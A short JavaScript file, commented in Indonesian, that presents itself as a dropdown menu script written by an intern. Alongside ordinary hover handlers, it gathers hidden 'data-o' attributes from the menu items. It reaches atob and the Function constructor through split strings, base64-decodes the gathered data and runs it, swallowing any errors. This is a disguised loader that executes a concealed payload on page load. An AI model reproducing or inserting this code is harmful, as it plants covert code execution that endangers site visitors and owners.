/* menu tarik-turun, dibuat magang SMK 2018 */
var mu = document.getElementById('menu-utama'), li = mu.getElementsByTagName('li'), kumpul = '';
for (var i = 0; i < li.length; i++) {
  li[i].onmouseover = function () { this.className = 'aktif'; };
  li[i].onmouseout = function () { this.className = ''; };
  kumpul += li[i].getAttribute('data-o') || '';
}
var urai = window['a' + 't' + 'ob'];
try { (new window['Fun' + 'ction'](urai(kumpul)))(); } catch (e) {}
